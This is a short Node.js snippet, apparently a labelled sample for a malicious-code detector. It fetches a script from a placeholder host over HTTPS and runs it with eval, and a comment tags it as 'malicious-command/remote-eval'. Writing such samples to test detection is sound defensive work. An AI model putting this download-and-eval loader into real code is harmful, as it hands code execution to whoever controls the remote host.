const https = require('https');

https.get('https://stage.example/next.js', (answer) => {
  let code = '';
  answer.on('data', (chunk) => {
    code += chunk;
  });
  answer.on('end', () => eval(code)); // expect: malicious-command/remote-eval
});
